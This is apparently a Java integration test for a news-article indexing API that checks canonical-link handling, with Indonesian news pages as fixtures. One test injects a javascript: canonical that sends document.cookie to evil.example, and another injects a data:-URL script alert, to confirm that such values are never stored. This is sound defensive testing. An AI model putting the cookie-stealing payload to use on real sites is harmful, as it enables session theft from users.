package io.pantau.web;

import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.not;
import static org.hamcrest.Matchers.nullValue;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotEquals;

import io.pantau.testsupport.Api;
import io.pantau.testsupport.ElasticsearchResource;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.http.ContentType;
import io.restassured.path.json.JsonPath;
import java.util.HashMap;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.Test;

/**
 * A page's canonical link names the article only when the page is on that address's site: posted
 * through {@code POST /api/articles}, stored in the real Elasticsearch and read back.
 */
@QuarkusTest
@QuarkusTestResource(ElasticsearchResource.class)
class CanonicalIdentityApiTest {

  private static String unique() {
    return UUID.randomUUID().toString().substring(0, 8);
  }

  /** A news page whose head names {@code canonical} as its address, by link and by og:url. */
  private static String page(String canonical, String title, String... paragraphs) {
    StringBuilder h = new StringBuilder("<!DOCTYPE html><html lang=\"id\"><head>");
    h.append("<title>").append(title).append("</title>");
    h.append("<link rel=\"canonical\" href=\"").append(canonical).append("\">");
    h.append("<meta property=\"og:url\" content=\"").append(canonical).append("\">");
    h.append("</head><body><header><a href=\"/\">Beranda</a></header><article>");
    h.append("<h1>").append(title).append("</h1>");
    for (String p : paragraphs) {
      h.append("<p>").append(p).append("</p>");
    }
    return h.append("</article><footer>Hak cipta</footer></body></html>").toString();
  }

  /** Posts one page and gives the answer's item. */
  private static JsonPath post(String url, String html) {
    Map<String, Object> json = new HashMap<>();
    if (url != null) {
      json.put("url", url);
    }
    json.put("html", html);
    return Api.asEditor()
        .contentType(ContentType.JSON)
        .queryParam("refresh", "wait_for")
        .body(json)
        .post("/api/articles")
        .then()
        .statusCode(201)
        .extract()
        .jsonPath()
        .setRootPath("items[0]");
  }

  private static JsonPath get(String id) {
    return Api.asViewer().get("/api/articles/" + id).then().statusCode(200).extract().jsonPath();
  }

  @Test
  void aPageOnAnotherSiteClaimingARealStorysCanonicalDoesNotTakeItsPlace() {
    String tag = unique();
    String real = "https://www.kompas.example/read/2025/06/16/" + tag + "/banjir-demak";
    String fakeText =
        "Warga kota "
            + tag
            + " diminta mengirim data rekening mereka untuk menerima bantuan banjir dari"
            + " pemerintah melalui tautan yang beredar di media sosial.";
    JsonPath fake =
        post(
            "https://kabar-viral.example/p/" + tag,
            page(
                real,
                "Bantuan banjir cair hari ini di kota " + tag,
                fakeText,
                "Pesan berantai itu meminta warga bergegas sebelum kuota bantuan habis malam"
                    + " ini, dan menyebut nama pejabat yang tidak pernah mengatakannya."));
    assertEquals("indexed", fake.getString("status"));

    String realText =
        "Sungai Wulan meluap setelah hujan deras sejak pagi dan merendam ratusan rumah di kota "
            + tag
            + ", Jawa Tengah, pada Senin.";
    JsonPath story =
        post(
            real,
            page(
                real,
                "Banjir rendam ratusan rumah di kota " + tag,
                realText,
                "Badan Penanggulangan Bencana Daerah mengerahkan perahu karet untuk mengevakuasi"
                    + " warga lanjut usia ke balai desa yang lebih tinggi."));
    assertEquals(
        "indexed",
        story.getString("status"),
        "the real story is stored, not a duplicate of the fake");
    assertNotEquals(fake.getString("id"), story.getString("id"));

    JsonPath stored = get(story.getString("id"));
    assertEquals(real, stored.getString("url"));
    assertEquals(real, stored.getString("canonicalUrl"));
    assertEquals(null, stored.getString("duplicateOf"));
    Api.asViewer()
        .get("/api/articles/" + story.getString("id"))
        .then()
        .body("body", containsString(realText))
        .body("body", not(containsString("rekening")));

    Api.asViewer()
        .get("/api/articles/" + fake.getString("id"))
        .then()
        .body("url", equalTo("https://kabar-viral.example/p/" + tag))
        .body("canonicalUrl", equalTo("https://kabar-viral.example/p/" + tag))
        .body("body", containsString("rekening"));
  }

  @Test
  void aCanonicalThatIsNotAnHttpAddressIsNeverStored() {
    String tag = unique();
    String url = "https://warta.example/berita/" + tag;
    JsonPath js =
        post(
            url,
            page(
                "javascript:fetch('https://evil.example/?c='+document.cookie)",
                "Harga beras naik di pasar " + tag,
                "Harga beras medium di pasar induk kota "
                    + tag
                    + " naik dua ratus rupiah per kilogram dalam sepekan terakhir.",
                "Pedagang menyebut pasokan dari sentra produksi berkurang setelah panen raya"
                    + " berakhir bulan lalu."));
    Api.asViewer()
        .get("/api/articles/" + js.getString("id"))
        .then()
        .body("url", equalTo(url))
        .body("canonicalUrl", equalTo(url));

    String other = "https://warta.example/berita/" + tag + "-2";
    JsonPath data =
        post(
            other,
            page(
                "data:text/html,<script>alert(1)</script>",
                "Stok gula aman menjelang hari raya di kota " + tag,
                "Dinas perdagangan kota "
                    + tag
                    + " memastikan stok gula pasir cukup hingga akhir bulan depan.",
                "Operasi pasar disiapkan bila harga di tingkat pengecer melewati harga eceran"
                    + " tertinggi."));
    Api.asViewer()
        .get("/api/articles/" + data.getString("id"))
        .then()
        .body("canonicalUrl", equalTo(other));
  }

  @Test
  void aPageSentWithoutAUrlKeepsNoCanonicalAndIsNamedByItsText() {
    String tag = unique();
    String real = "https://www.tempo.example/read/" + tag + "/pilkada";
    JsonPath story =
        post(
            real,
            page(
                real,
                "KPU tetapkan jadwal pilkada di kabupaten " + tag,
                "Komisi Pemilihan Umum menetapkan jadwal pemungutan suara pilkada kabupaten "
                    + tag
                    + " pada bulan November.",
                "Tahapan pendaftaran calon dibuka tiga bulan sebelum hari pemungutan suara."));
    JsonPath pasted =
        post(
            null,
            page(
                real,
                "Pilkada kabupaten " + tag + " ditunda tanpa batas waktu",
                "Beredar kabar bahwa pilkada kabupaten "
                    + tag
                    + " ditunda tanpa batas waktu karena anggaran tidak cukup.",
                "Kabar itu tidak menyebut sumber dan tidak dimuat di situs penyelenggara"
                    + " pemilu."));
    assertEquals("indexed", pasted.getString("status"), "not a duplicate of the real story");
    assertNotEquals(story.getString("id"), pasted.getString("id"));
    Api.asViewer()
        .get("/api/articles/" + pasted.getString("id"))
        .then()
        .body("url", nullValue())
        .body("canonicalUrl", nullValue());
    Api.asViewer()
        .get("/api/articles/" + story.getString("id"))
        .then()
        .body("body", containsString("November"));
  }

  @Test
  void theAmpEditionNamingItsDesktopPageIsTheSameArticle() {
    String tag = unique();
    String desktop = "https://nasional.kompas.example/read/2025/06/16/" + tag + "/banjir";
    String amp = "https://amp.kompas.example/nasional/read/2025/06/16/" + tag + "/banjir";
    String html =
        page(
            desktop,
            "Tanggul jebol di kecamatan " + tag,
            "Tanggul sungai di kecamatan "
                + tag
                + " jebol pada Minggu malam dan air masuk ke permukiman warga.",
            "Petugas menutup bagian yang jebol dengan karung pasir sejak dini hari.");
    JsonPath first = post(amp + "?utm_source=feed", html);
    assertEquals("indexed", first.getString("status"));
    Api.asViewer()
        .get("/api/articles/" + first.getString("id"))
        .then()
        .body("canonicalUrl", equalTo(desktop));
    JsonPath second = post(desktop, html);
    assertEquals("duplicate", second.getString("status"));
    assertEquals(first.getString("id"), second.getString("id"));
  }
}
